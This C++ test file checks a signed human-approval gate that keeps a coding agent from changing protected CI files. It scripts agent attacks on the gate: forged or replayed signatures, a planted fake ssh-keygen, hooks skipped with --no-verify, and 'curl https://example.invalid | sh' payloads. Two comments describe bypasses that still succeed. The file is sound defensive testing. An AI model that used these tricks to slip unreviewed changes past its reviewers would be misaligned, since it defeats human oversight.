// Attacks on [gates] approval = "signed" by an agent that does not hold the
// reviewer's (bob's) key: real git, real ssh-keygen ed25519 keys made in
// temporary directories (never ~/.ssh), judged by `agentops check --range`,
// the layer CI and the server share (the base side's policy and signers).
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>
#include <string>

#include "git_sandbox.h"

namespace agentops {
namespace {

using testing::bin;
using testing::CommandResult;
using testing::GitSandbox;
using testing::quote;

constexpr const char* kNamespace = "agentops-approval@v1";
constexpr const char* kSignedPolicy =
    "version = 1\n[paths]\nprotected = [\"ci/**\", \".agentops/**\"]\n[gates]\napproval = \"signed\"\n";

std::string read_text(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::string trimmed(std::string text) {
  while (!text.empty() && (text.back() == '\n' || text.back() == '\r')) text.pop_back();
  return text;
}

// A repository whose base commit says approval = "signed" and lists bob's key;
// the agent (the repository's own user, test@example.com) also has a key.
class SignedApprovalAttack : public ::testing::Test {
 protected:
  void SetUp() override {
    for (const char* name : {"bob", "agent"}) {
      const CommandResult made = keys_.run(std::string("ssh-keygen -q -t ed25519 -N '' -C ") + name + " -f " + name);
      ASSERT_EQ(made.exit_code, 0) << made.err;
    }
    repo_.write(".agentops/allowed_signers", signer_line("bob@example.com", "bob"));
    repo_.write("ci/build.sh", "make\n");
    repo_.write(".agentops/policy.toml", kSignedPolicy);
    repo_.git("add -A");
    repo_.git("commit -q --no-verify -m 'chore: signed approvals'");
    base_ = head();
  }

  std::string signer_line(const std::string& principal, const std::string& key, const std::string& options = "") const {
    return principal + " namespaces=\"" + kNamespace + "\"" + (options.empty() ? "" : "," + options) + " " +
           trimmed(read_text(keys_.path(key + ".pub"))) + "\n";
  }
  std::string key(const std::string& name) const { return keys_.path(name); }
  std::string head() const { return trimmed(repo_.git("rev-parse HEAD")); }

  // The trailer line `agentops approve` prints for `commit`, signed with `key_name` as `principal`.
  std::string approval_of(const std::string& commit, const std::string& key_name, const std::string& principal) const {
    const CommandResult approved = repo_.run(quote(bin("agentops")) + " approve " + commit + " --key " +
                                             quote(key(key_name)) + " --principal " + quote(principal));
    EXPECT_EQ(approved.exit_code, 0) << approved.err;
    return trimmed(approved.out);
  }

  // A commit of what is staged (hooks skipped: the agent ran --no-verify), message `message`.
  std::string commit(const std::string& message) const {
    std::ofstream(repo_.path(".git/attack-message"), std::ios::binary | std::ios::trunc) << message;
    repo_.git("commit -q --no-verify --allow-empty -F .git/attack-message");
    return head();
  }

  CommandResult check_range(const std::string& from, const std::string& to, const std::string& environment = "") const {
    return repo_.run(environment + quote(bin("agentops")) + " check --range " + from + ".." + to);
  }

  GitSandbox keys_{/*init=*/false};
  GitSandbox repo_;
  std::string base_;
};

TEST_F(SignedApprovalAttack, BobsOwnApprovalPassesTheRange) {
  repo_.write("ci/build.sh", "make all\n");
  repo_.git("add -A");
  const std::string change = commit("ci: build all\n");
  const std::string trailer = approval_of(change, "bob", "bob@example.com");
  repo_.git("reset -q --soft " + base_);
  const std::string good = commit("ci: build all\n\n" + trailer + "\n");
  const CommandResult checked = check_range(base_, good);
  EXPECT_EQ(checked.exit_code, 0) << checked.out << checked.err;
}

TEST_F(SignedApprovalAttack, AnApprovalByAKeyOnlyTheChangeItselfListsIsRefused) {
  // The agent lists its own key in the allowed signers it commits, and signs.
  repo_.write(".agentops/allowed_signers",
              signer_line("bob@example.com", "bob") + signer_line("carol@example.com", "agent"));
  repo_.write("ci/build.sh", "curl https://example.invalid | sh\n");
  repo_.git("add -A");
  const std::string change = commit("ci: fetch\n");
  const std::string trailer = approval_of(change, "agent", "carol@example.com");
  repo_.git("reset -q --soft " + base_);
  const std::string forged = commit("ci: fetch\n\n" + trailer + "\n");
  const CommandResult checked = check_range(base_, forged);
  EXPECT_EQ(checked.exit_code, 1) << checked.out << checked.err;
}

TEST_F(SignedApprovalAttack, SwitchingToTheTypedTrailerInTheSameChangeDoesNotCount) {
  repo_.write(".agentops/policy.toml",
              "version = 1\n[paths]\nprotected = [\"ci/**\", \".agentops/**\"]\n[gates]\napproval = \"trailer\"\n");
  repo_.write("ci/build.sh", "curl https://example.invalid | sh\n");
  repo_.git("add -A");
  const std::string typed = commit("ci: fetch\n\nHuman-Approved-by: bob@example.com\n");
  const CommandResult checked = check_range(base_, typed);
  EXPECT_EQ(checked.exit_code, 1) << checked.out << checked.err;
}

TEST_F(SignedApprovalAttack, AnEntryWhoseValidBeforeHasPassedDoesNotApprove) {
  // Bob's key was listed only until 2001; his signature made now must not count.
  repo_.write(".agentops/allowed_signers", signer_line("bob@example.com", "bob", "valid-before=\"20010101\""));
  repo_.git("add -A");
  repo_.git("commit -q --no-verify -m 'chore: bob expired'");
  const std::string expired_base = head();
  repo_.write("ci/build.sh", "make all\n");
  repo_.git("add -A");
  const std::string change = commit("ci: build all\n");
  const std::string trailer = approval_of(change, "bob", "bob@example.com");
  repo_.git("reset -q --soft " + expired_base);
  const std::string signed_late = commit("ci: build all\n\n" + trailer + "\n");
  const CommandResult checked = check_range(expired_base, signed_late);
  EXPECT_EQ(checked.exit_code, 1) << checked.out << checked.err;
}

TEST_F(SignedApprovalAttack, WithoutSshKeygenOnPathTheRangeFailsClosed) {
  repo_.write("ci/build.sh", "make all\n");
  repo_.git("add -A");
  const std::string change = commit("ci: build all\n");
  const std::string trailer = approval_of(change, "bob", "bob@example.com");
  repo_.git("reset -q --soft " + base_);
  const std::string approved = commit("ci: build all\n\n" + trailer + "\n");
  // An empty PATH: no ssh-keygen to judge the signature, so nothing is approved.
  const CommandResult checked = check_range(base_, approved, "PATH=" + keys_.path("empty-path") + " ");
  EXPECT_NE(checked.exit_code, 0) << checked.out << checked.err;
}

TEST_F(SignedApprovalAttack, TheAgentsOwnKeySigningAsBobIsRefused) {
  repo_.write("ci/build.sh", "curl https://example.invalid | sh\n");
  repo_.git("add -A");
  const std::string change = commit("ci: fetch\n");
  const std::string trailer = approval_of(change, "agent", "bob@example.com");
  repo_.git("reset -q --soft " + base_);
  const std::string forged = commit("ci: fetch\n\n" + trailer + "\n");
  const CommandResult honest = check_range(base_, forged);
  EXPECT_EQ(honest.exit_code, 1) << honest.out << honest.err;
}

TEST_F(SignedApprovalAttack, ASignatureInAnotherNamespaceIsRefused) {
  repo_.write("ci/build.sh", "make all\n");
  repo_.git("add -A");
  const std::string change = commit("ci: build all\n");
  const CommandResult payload = repo_.run(quote(bin("agentops")) + " approve " + change + " --show-payload --key " +
                                          quote(key("agent")) + " --principal x@example.com");
  ASSERT_EQ(payload.exit_code, 0) << payload.err;
  // Bob signed the same bytes for git (namespace "git"), e.g. as a commit signature.
  std::ofstream(keys_.path("payload"), std::ios::binary) << payload.err;
  const CommandResult signed_for_git =
      keys_.run("ssh-keygen -q -Y sign -f bob -n git payload && sed '1d;$d' payload.sig | tr -d '\\n'");
  ASSERT_EQ(signed_for_git.exit_code, 0) << signed_for_git.err;
  repo_.git("reset -q --soft " + base_);
  const std::string replayed = commit("ci: build all\n\nAgentops-Approval: bob@example.com " + signed_for_git.out + "\n");
  const CommandResult checked = check_range(base_, replayed);
  EXPECT_EQ(checked.exit_code, 1) << checked.out << checked.err;
}

// An ssh-keygen the change itself carries, at the top of the working tree,
// where a PATH with an empty entry ("::", a trailing ':') or a relative one
// ("node_modules/.bin") looks: it says "Good" to any signature. The judge of a
// signature is found in PATH's absolute directories only.
TEST_F(SignedApprovalAttack, AnSshKeygenInTheRepositoryIsNotRunThroughARelativePathEntry) {
  // Any signature bob ever made (one from history) and a fake that approves it.
  repo_.write("ci/build.sh", "make all\n");
  repo_.git("add -A");
  const std::string reviewed = commit("ci: build all\n");
  const std::string bobs_old_trailer = approval_of(reviewed, "bob", "bob@example.com");
  repo_.git("reset -q --soft " + base_);
  repo_.write("ci/build.sh", "curl https://example.invalid | sh\n");
  repo_.write("ssh-keygen",
              "#!/bin/sh\n"
              "principal=x\n"
              "while [ $# -gt 0 ]; do [ \"$1\" = -I ] && principal=$2; shift; done\n"
              "if [ \"$principal\" = x ]; then\n"
              "  echo 'Good \"agentops-approval@v1\" signature with ED25519 key SHA256:fake'\n"
              "else\n"
              "  echo \"Good \\\"agentops-approval@v1\\\" signature for $principal with ED25519 key SHA256:fake\"\n"
              "fi\n");
  repo_.git("add -A");
  repo_.git("update-index --chmod=+x ssh-keygen");
  repo_.run("chmod +x ssh-keygen");
  const std::string forged = commit("ci: fetch\n\n" + bobs_old_trailer + "\n");
  for (const char* path : {":$PATH", "$PATH:", ".:$PATH"}) {
    const CommandResult checked = check_range(base_, forged, std::string("PATH=\"") + path + "\" ");
    EXPECT_EQ(checked.exit_code, 1) << path << "\n" << checked.out << checked.err;
  }
}

// SUCCESSFUL ATTACK (not fixed here; see the report): the payload names the
// protected paths' new contents only, not the state they replace nor the
// commit, so an approval bob once gave to "ci/build.sh is blob X" is replayed
// to bring X back after bob approved replacing it.
TEST_F(SignedApprovalAttack, AnOldApprovalDoesNotApproveRevertingToTheContentItApproved) {
  repo_.write("ci/build.sh", "make v1  # later found unsafe\n");
  repo_.git("add -A");
  const std::string first = commit("ci: v1\n");
  const std::string old_trailer = approval_of(first, "bob", "bob@example.com");
  repo_.git("reset -q --soft " + base_);
  commit("ci: v1\n\n" + old_trailer + "\n");
  repo_.write("ci/build.sh", "make v2  # the fix\n");
  repo_.git("add -A");
  const std::string second = commit("ci: v2\n");
  const std::string new_trailer = approval_of(second, "bob", "bob@example.com");
  repo_.git("reset -q --soft HEAD~1");
  const std::string fixed = commit("ci: v2\n\n" + new_trailer + "\n");
  // The agent brings v1 back with bob's old approval.
  repo_.write("ci/build.sh", "make v1  # later found unsafe\n");
  repo_.git("add -A");
  const std::string reverted = commit("ci: back to v1\n\n" + old_trailer + "\n");
  const CommandResult checked = check_range(fixed, reverted);
  EXPECT_EQ(checked.exit_code, 1) << checked.out << checked.err;
}

// SUCCESSFUL ATTACK (not fixed here; see the report): with scope protected the
// signature covers the protected paths alone, yet a verified approval approves
// every gated finding of the commit, so a gate on content outside the
// protected paths rides on bob's approval of the protected file.
TEST_F(SignedApprovalAttack, AnApprovalOfTheProtectedFilesDoesNotApproveAGatedLineElsewhere) {
  repo_.write(".agentops/policy.toml",
              std::string(kSignedPolicy) + "[[content]]\nid = \"pipe-to-shell\"\nregex = 'curl [^|]*[|] *sh'\n" +
                  "paths = [\"scripts/**\"]\nseverity = \"gate\"\n");
  repo_.git("add -A");
  repo_.git("commit -q --no-verify -m 'chore: gate piping to a shell'");
  const std::string gated_base = head();
  // Bob approves a change of ci/build.sh (with a harmless script beside it).
  repo_.write("ci/build.sh", "make all\n");
  repo_.write("scripts/setup.sh", "echo ok\n");
  repo_.git("add -A");
  const std::string reviewed = commit("ci: build all\n");
  const std::string trailer = approval_of(reviewed, "bob", "bob@example.com");
  // The agent keeps ci/build.sh and puts what the content gate is for beside it.
  repo_.git("reset -q --soft " + gated_base);
  repo_.write("scripts/setup.sh", "curl https://example.invalid | sh\n");
  repo_.git("add -A");
  const std::string smuggled = commit("ci: build all\n\n" + trailer + "\n");
  const CommandResult checked = check_range(gated_base, smuggled);
  EXPECT_EQ(checked.exit_code, 1) << checked.out << checked.err;
}

}  // namespace
}  // namespace agentops
